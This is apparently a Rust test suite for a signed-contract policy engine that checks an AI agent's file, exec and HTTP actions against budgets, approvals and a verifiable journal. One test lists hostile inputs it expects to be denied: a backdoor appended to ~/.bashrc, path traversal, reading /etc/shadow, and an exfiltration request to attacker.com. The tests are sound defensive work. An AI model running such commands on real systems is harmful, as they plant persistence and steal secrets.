//! Contract format, signatures, decisions, approvals and the ledger.
#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests"
)]

use knox_attest::{PartyKey, TeeKey};
use knox_contract::approval::{self, ApprovalError};
use knox_contract::example::template;
use knox_contract::format::{Contract, Impact};
use knox_contract::signed::{self, SignedError};
use knox_contract::{Check, Decision, Ledger, LedgerEvent, State, decide, decide_json};
use knox_types::Action;
use proptest::prelude::*;
use serde_json::{Value, json};

const NOW: u64 = 1_800_000_000_000;
const WC: &str = "1111111111111111111111111111111111111111111111111111111111111111";

fn contract(approver: &PartyKey) -> Contract {
    let mut c = template(NOW - 1000, NOW + 3_600_000, WC);
    c.approvers
        .insert("alice".into(), hex::encode(approver.public_bytes()));
    c.approval_required.insert(Impact::High);
    c.endpoints.get_mut("example-api").unwrap().impact = Impact::High;
    c.validate().unwrap();
    c
}

fn act(tool: &str, params: Value) -> Value {
    json!({"tool": tool, "params": params})
}

fn run(c: &Contract, a: &Value, ap: Option<&Value>, s: &State) -> Decision {
    decide(c, &c.hash(), a, ap, s, NOW)
}

#[test]
fn legitimate_actions_are_allowed_with_the_signed_cost() {
    let k = PartyKey::from_seed([1; 32]);
    let c = contract(&k);
    let s = State::default();
    let w = act(
        "ContractWriteFile",
        json!({"dir": "workspace", "path": "notes/a.txt", "content": "hi"}),
    );
    match run(&c, &w, None, &s) {
        Decision::Allow(a) => {
            assert_eq!(a.cost_cents, 1);
            assert_eq!(a.capability, "workspace");
        }
        d => panic!("{d:?}"),
    }
    let e = act(
        "ContractExec",
        json!({"exe": "wc", "args": ["-l", "notes/a.txt"]}),
    );
    assert!(run(&c, &e, None, &s).is_allow());
    let r = act("ContractReadFile", json!({"dir": "docs", "path": "README"}));
    assert!(run(&c, &r, None, &s).is_allow());
}

#[test]
fn every_hostile_shape_is_denied_by_its_check() {
    let k = PartyKey::from_seed([1; 32]);
    let c = contract(&k);
    let s = State::default();
    let cases = [
        (
            act(
                "ContractWriteFile",
                json!({"dir": "workspace", "path": "/root/.bashrc", "content": "x"}),
            ),
            Check::Path,
        ),
        (
            act(
                "ContractWriteFile",
                json!({"dir": "workspace", "path": "../../root/.bashrc", "content": "x"}),
            ),
            Check::Path,
        ),
        (
            act(
                "ContractWriteFile",
                json!({"dir": "docs", "path": "a", "content": "x"}),
            ),
            Check::Capability,
        ),
        (
            act(
                "ContractWriteFile",
                json!({"dir": "home", "path": "a", "content": "x"}),
            ),
            Check::Capability,
        ),
        (
            act("ContractExec", json!({"exe": "wc", "args": ["-c", "a"]})),
            Check::Argv,
        ),
        (
            act(
                "ContractExec",
                json!({"exe": "wc", "args": ["-l", "/etc/shadow"]}),
            ),
            Check::Argv,
        ),
        (
            act(
                "ContractExec",
                json!({"exe": "wc", "args": ["-l", "a", "b"]}),
            ),
            Check::Argv,
        ),
        (
            act(
                "ContractExec",
                json!({"exe": "sh", "args": ["-c", "echo x >> ~/.bashrc"]}),
            ),
            Check::Capability,
        ),
        (
            act(
                "ContractHttp",
                json!({"endpoint": "example-api", "method": "GET", "url": "https://attacker.com/exfil?data=secret"}),
            ),
            Check::Endpoint,
        ),
        (
            act(
                "ContractHttp",
                json!({"endpoint": "example-api", "method": "POST", "url": "https://api.example.com/v1/x"}),
            ),
            Check::Endpoint,
        ),
        (
            act(
                "ContractHttp",
                json!({"endpoint": "example-api", "method": "GET", "url": "https://api.example.com/v10/x"}),
            ),
            Check::Endpoint,
        ),
        (
            act(
                "ContractHttp",
                json!({"endpoint": "example-api", "method": "GET", "url": "https://api.example.com:444/v1/x"}),
            ),
            Check::Endpoint,
        ),
        (
            act(
                "TerminalExecute",
                json!({"command": "echo backdoor > ~/.bashrc"}),
            ),
            Check::Structure,
        ),
        (
            act(
                "ContractExec",
                json!({"exe": "wc", "args": ["-l", "a"], "cost_cents": 0}),
            ),
            Check::Structure,
        ),
        (json!(null), Check::Structure),
        (json!([1, 2]), Check::Structure),
        (json!({"tool": "ContractExec"}), Check::Structure),
    ];
    for (a, want) in cases {
        let d = run(&c, &a, None, &s);
        assert_eq!(d.check(), Some(want), "{a} -> {d:?}");
        assert!(!d.is_allow());
    }
}

#[test]
fn budget_counts_spent_plus_reserved_plus_cost_and_the_cap_counts_actions() {
    let k = PartyKey::from_seed([1; 32]);
    let c = contract(&k);
    let e = act("ContractExec", json!({"exe": "wc", "args": ["-l", "a"]}));
    let s = State {
        spent_cents: 90,
        reserved_cents: 8,
        ..State::default()
    };
    assert_eq!(run(&c, &e, None, &s).check(), None);
    let s = State {
        spent_cents: 90,
        reserved_cents: 9,
        ..State::default()
    };
    assert_eq!(run(&c, &e, None, &s).check(), Some(Check::Budget));
    let s = State {
        actions: 20,
        ..State::default()
    };
    assert_eq!(run(&c, &e, None, &s).check(), Some(Check::ActionCap));
    assert_eq!(
        decide(&c, &c.hash(), &e, None, &State::default(), NOW + 3_600_001).check(),
        Some(Check::Window)
    );
}

#[test]
fn approvals_bind_action_contract_nonce_time_and_approver() {
    let alice = PartyKey::from_seed([1; 32]);
    let mallory = PartyKey::from_seed([2; 32]);
    let c = contract(&alice);
    let h = c.hash();
    let a = act(
        "ContractHttp",
        json!({"endpoint": "example-api", "method": "GET", "url": "https://api.example.com/v1/deploy"}),
    );
    let s = State::default();
    assert!(matches!(run(&c, &a, None, &s), Decision::Pending(_)));
    let ah = serde_json::from_value::<Action>(a.clone()).unwrap().hash();
    let tok = approval::sign(&alice, "alice", h, ah, NOW, 60_000).unwrap();
    let tv = serde_json::to_value(&tok).unwrap();
    let Decision::Allow(ok) = run(&c, &a, Some(&tv), &s) else {
        panic!()
    };
    assert_eq!(ok.approval_nonce, Some(tok.nonce_hex()));
    // replayed
    let mut used = State::default();
    used.used_approvals.insert(tok.nonce_hex());
    assert_eq!(run(&c, &a, Some(&tv), &used).check(), Some(Check::Approval));
    let replay = approval::check(&c, &h, &ah, &tok, NOW, &used.used_approvals);
    assert_eq!(replay, Err(ApprovalError::Replayed));
    // expired
    let late = decide(&c, &h, &a, Some(&tv), &s, NOW + 60_001);
    assert_eq!(late.check(), Some(Check::Approval));
    // swapped: a token for another action
    let b = act(
        "ContractHttp",
        json!({"endpoint": "example-api", "method": "GET", "url": "https://api.example.com/v1/other"}),
    );
    assert_eq!(run(&c, &b, Some(&tv), &s).check(), Some(Check::Approval));
    // forged: signed by an unlisted key under a listed name
    let forged = approval::sign(&mallory, "alice", h, ah, NOW, 60_000).unwrap();
    assert_eq!(
        approval::check(&c, &h, &ah, &forged, NOW, &Default::default()),
        Err(ApprovalError::Signature("alice".into()))
    );
    let unlisted = approval::sign(&mallory, "mallory", h, ah, NOW, 60_000).unwrap();
    assert!(matches!(
        approval::check(&c, &h, &ah, &unlisted, NOW, &Default::default()),
        Err(ApprovalError::Unlisted(_))
    ));
    // altered after signing
    let mut longer = tok.clone();
    longer.body.expires_at_ms += 1;
    assert!(matches!(
        approval::check(&c, &h, &ah, &longer, NOW, &Default::default()),
        Err(ApprovalError::Signature(_))
    ));
    // too long-lived
    let long = approval::sign(&alice, "alice", h, ah, NOW, 10_000_000).unwrap();
    assert!(matches!(
        approval::check(&c, &h, &ah, &long, NOW, &Default::default()),
        Err(ApprovalError::TooLong(_))
    ));
    // for another contract
    let other = approval::sign(
        &alice,
        "alice",
        knox_types::digest::Digest::sha256(b"x"),
        ah,
        NOW,
        60_000,
    )
    .unwrap();
    assert_eq!(
        approval::check(&c, &h, &ah, &other, NOW, &Default::default()),
        Err(ApprovalError::OtherContract)
    );
}

#[test]
fn signed_contracts_verify_and_tampering_is_refused() {
    let authority = PartyKey::from_seed([9; 32]);
    let c = contract(&PartyKey::from_seed([1; 32]));
    let env = signed::sign(&authority, &c).unwrap();
    let bytes = serde_json::to_vec(&env).unwrap();
    let v = signed::verify_bytes(&bytes, &authority.public_key()).unwrap();
    assert_eq!(v.contract, c);
    assert_eq!(v.hash, c.hash());
    // another authority
    assert!(matches!(
        signed::verify_bytes(&bytes, &PartyKey::from_seed([8; 32]).public_key()),
        Err(SignedError::Signature(_))
    ));
    // the payload widened (root "/") without re-signing
    let mut wide = c.clone();
    wide.directories.get_mut("workspace").unwrap().root = "/".into();
    let st = knox_types::dsse::Statement::new(
        vec![knox_types::dsse::Subject::one(
            "example",
            signed::SUBJECT_ALG,
            wide.hash().to_hex(),
        )],
        signed::CONTRACT_PREDICATE,
        &wide,
    )
    .unwrap();
    let mut tampered = env.clone();
    tampered.payload = knox_types::dsse::b64(&st.to_payload().unwrap());
    assert!(matches!(
        signed::verify(&tampered, &authority.public_key()),
        Err(SignedError::Signature(_))
    ));
    // duplicate keys are refused by the strict reader
    let text = String::from_utf8(bytes.clone()).unwrap();
    let dup = text.replacen("{\"payload\"", "{\"payloadType\":\"x\",\"payload\"", 1);
    assert!(signed::verify_bytes(dup.as_bytes(), &authority.public_key()).is_err());
    // unknown fields in the contract are refused even when signed
    let mut with_extra = serde_json::to_value(&c).unwrap();
    with_extra["unlimited"] = json!(true);
    let st =
        knox_types::dsse::Statement::new(vec![], signed::CONTRACT_PREDICATE, &with_extra).unwrap();
    let env2 = knox_attest::dsse::sign(&authority, &st).unwrap();
    assert!(matches!(
        signed::verify(&env2, &authority.public_key()),
        Err(SignedError::Shape(_))
    ));
    // a signed but invalid contract
    let mut bad = serde_json::to_value(&c).unwrap();
    bad["valid_until_ms"] = json!(0);
    let st = knox_types::dsse::Statement::new(vec![], signed::CONTRACT_PREDICATE, &bad).unwrap();
    let env3 = knox_attest::dsse::sign(&authority, &st).unwrap();
    assert!(matches!(
        signed::verify(&env3, &authority.public_key()),
        Err(SignedError::Invalid(_))
    ));
}

#[test]
fn structural_validation_rejects_bad_contracts() {
    let k = PartyKey::from_seed([1; 32]);
    let base = contract(&k);
    let mut bad = Vec::new();
    let mut c = base.clone();
    c.format = "knox-contract/v0".into();
    bad.push(c);
    let mut c = base.clone();
    c.directories.get_mut("workspace").unwrap().root = "relative".into();
    bad.push(c);
    let mut c = base.clone();
    c.executables.get_mut("wc").unwrap().path = "../bin/sh".into();
    bad.push(c);
    let mut c = base.clone();
    c.executables.get_mut("wc").unwrap().sha256 = "XYZ".into();
    bad.push(c);
    let mut c = base.clone();
    c.executables.get_mut("wc").unwrap().workdir = Some("docs".into());
    bad.push(c);
    let mut c = base.clone();
    c.approvers.clear();
    bad.push(c);
    let mut c = base.clone();
    c.budget_cents = u64::MAX;
    bad.push(c);
    let mut c = base.clone();
    c.endpoints.get_mut("example-api").unwrap().host = "API.example.com".into();
    bad.push(c);
    // An endpoint cleared to receive a capability the contract does not have.
    let mut c = base.clone();
    c.endpoints
        .get_mut("example-api")
        .unwrap()
        .receives
        .insert("nowhere".into());
    bad.push(c);
    // Cleared for capabilities it has: valid.
    let mut c = base.clone();
    c.endpoints.get_mut("example-api").unwrap().receives =
        ["docs".to_owned(), "wc".to_owned()].into_iter().collect();
    assert_eq!(c.validate(), Ok(()));
    for c in bad {
        assert!(c.validate().is_err(), "{c:?}");
        let d = decide_json(
            &serde_json::to_value(&c).unwrap(),
            &json!({}),
            None,
            &State::default(),
            NOW,
        );
        assert_eq!(d.check(), Some(Check::Structure));
    }
}

#[test]
fn a_replayed_journal_keeps_unsettled_reservations_held() {
    let k = PartyKey::from_seed([1; 32]);
    let c = contract(&k);
    let e = act("ContractExec", json!({"exe": "wc", "args": ["-l", "a"]}));
    let mut ledger = Ledger::new();
    let mut journal = Vec::new();
    for i in 0..60 {
        let d = run(&c, &e, None, ledger.state());
        let Decision::Allow(a) = d else {
            // 100 cents at 2 per run: the 51st is over budget, whatever settled.
            assert_eq!(i, 50);
            assert_eq!(d.check(), Some(Check::Budget));
            break;
        };
        let ev = ledger.reserve(&a);
        ledger.apply(&ev).unwrap();
        journal.push(ev);
        if i % 2 == 0 {
            let s = LedgerEvent::Settled {
                id: i,
                executed: true,
            };
            ledger.apply(&s).unwrap();
            journal.push(s);
        }
        if i == 19 {
            // 20 actions reached: the cap of the template is 20
            assert_eq!(
                run(&c, &e, None, ledger.state()).check(),
                Some(Check::ActionCap)
            );
            let mut c2 = c.clone();
            c2.max_actions = 1000;
            let crashed = Ledger::replay(&journal).unwrap();
            assert_eq!(crashed.state(), ledger.state());
            assert_eq!(crashed.held().len(), 10);
            assert_eq!(crashed.state().reserved_cents, 20);
            assert_eq!(crashed.state().spent_cents, 20);
            return;
        }
    }
    panic!("the cap was not reached");
}

#[test]
fn ledger_refuses_out_of_order_and_double_settlement() {
    let mut l = Ledger::new();
    let r = LedgerEvent::Reserved {
        id: 1,
        capability: "x".into(),
        cost_cents: 1,
        approval_nonce: None,
    };
    assert!(l.apply(&r).is_err());
    let r0 = LedgerEvent::Reserved {
        id: 0,
        capability: "x".into(),
        cost_cents: 1,
        approval_nonce: Some("n".into()),
    };
    l.apply(&r0).unwrap();
    let s = LedgerEvent::Settled {
        id: 0,
        executed: false,
    };
    l.apply(&s).unwrap();
    assert_eq!(l.state().spent_cents, 0);
    assert!(l.apply(&s).is_err());
    let r1 = LedgerEvent::Reserved {
        id: 1,
        capability: "x".into(),
        cost_cents: 1,
        approval_nonce: Some("n".into()),
    };
    assert!(l.apply(&r1).is_err());
}

fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|i| json!(i)),
        any::<f64>().prop_map(|f| json!(f)),
        "[a-zA-Z/._-]{0,12}".prop_map(Value::String),
        prop_oneof![
            Just("ContractExec"),
            Just("ContractHttp"),
            Just("ContractWriteFile"),
            Just("ContractReadFile"),
            Just("wc"),
            Just("workspace"),
            Just("-l"),
            Just("https://api.example.com/v1/x"),
            Just("GET")
        ]
        .prop_map(|s| Value::String(s.into())),
    ];
    leaf.prop_recursive(4, 64, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::btree_map(
                prop_oneof![
                    Just("tool".to_owned()),
                    Just("params".to_owned()),
                    Just("exe".to_owned()),
                    Just("args".to_owned()),
                    Just("dir".to_owned()),
                    Just("path".to_owned()),
                    Just("content".to_owned()),
                    Just("url".to_owned()),
                    Just("method".to_owned()),
                    Just("endpoint".to_owned()),
                    "[a-z]{1,6}"
                ],
                inner,
                0..6
            )
            .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    #[test]
    fn decide_is_total_over_any_json(a in arb_json(), ap in proptest::option::of(arb_json()), spent in 0u64..200, n in 0u64..30) {
        let k = PartyKey::from_seed([1; 32]);
        let c = contract(&k);
        let s = State { spent_cents: spent, actions: n, ..State::default() };
        let d = run(&c, &a, ap.as_ref(), &s);
        if let Decision::Allow(x) = &d {
            // whatever was allowed fits the budget and the cap, at the signed cost
            prop_assert!(spent + x.cost_cents <= c.budget_cents);
            prop_assert!(n < c.max_actions);
        }
        // an arbitrary value as the contract is a reasoned denial, never a panic
        let d2 = decide_json(&a, &a, ap.as_ref(), &s, NOW);
        prop_assert!(!d2.is_allow());
    }

    #[test]
    fn exec_allowed_only_for_template_argv(args in prop::collection::vec("[-a-z./]{0,8}", 0..4)) {
        let k = PartyKey::from_seed([1; 32]);
        let c = contract(&k);
        let a = act("ContractExec", json!({"exe": "wc", "args": args.clone()}));
        let allowed = run(&c, &a, None, &State::default()).is_allow();
        let fits = args.len() == 2 && args[0] == "-l" && knox_contract::format::hole_matches(knox_contract::Hole::Relpath, &args[1]);
        prop_assert_eq!(allowed, fits);
    }
}

#[test]
fn the_journal_recomputes_every_decision_and_refuses_a_forged_one() {
    use knox_contract::session::{ContractSession, JournalError, verify_journal};
    let authority = PartyKey::from_seed([9; 32]);
    let monitor = TeeKey::generate().unwrap();
    let c = contract(&PartyKey::from_seed([1; 32]));
    let v = signed::verify(
        &signed::sign(&authority, &c).unwrap(),
        &authority.public_key(),
    )
    .unwrap();
    let mut s = ContractSession::new(v.clone(), &monitor);
    let ok = act("ContractExec", json!({"exe": "wc", "args": ["-l", "a"]}));
    let bad = act("ContractExec", json!({"exe": "sh", "args": ["-c", "id"]}));
    let p = s.propose(&ok, None, NOW).unwrap();
    let (id, _grant) = p.grant.unwrap();
    s.settle(id, None, NOW).unwrap();
    let p2 = s.propose(&ok, None, NOW).unwrap();
    assert!(s.propose(&bad, None, NOW).unwrap().grant.is_none());
    // crash here: the second reservation is held
    let prefix = s.journal().clone();
    let r = verify_journal(&prefix, &v, &monitor.public_key()).unwrap();
    assert_eq!(
        (r.status, r.held, r.spent_cents, r.denied),
        ("prefix", 1, 2, 1)
    );
    s.settle(p2.grant.unwrap().0, Some("pinned_digest".into()), NOW)
        .unwrap();
    let j = s.seal();
    let r = verify_journal(&j, &v, &monitor.public_key()).unwrap();
    assert_eq!(
        (r.status, r.decisions, r.allowed, r.held, r.spent_cents),
        ("complete", 4 - 1, 2, 0, 2)
    );
    // a denial rewritten as an allow does not follow from the contract
    let mut forged = j.clone();
    if let knox_contract::session::Entry::Decision { decision, .. } = &mut forged.entries[3] {
        *decision = j
            .entries
            .iter()
            .find_map(|e| match e {
                knox_contract::session::Entry::Decision {
                    decision: d @ Decision::Allow(_),
                    ..
                } => Some(d.clone()),
                _ => None,
            })
            .unwrap();
    }
    assert!(matches!(
        verify_journal(&forged, &v, &monitor.public_key()),
        Err(JournalError::Decision { .. })
    ));
    // dropping an entry breaks the sequence; another monitor's seal is refused
    let mut dropped = j.clone();
    dropped.entries.remove(1);
    assert!(verify_journal(&dropped, &v, &monitor.public_key()).is_err());
    assert_eq!(
        verify_journal(&j, &v, &PartyKey::from_seed([6; 32]).public_key()),
        Err(JournalError::Seal)
    );
}
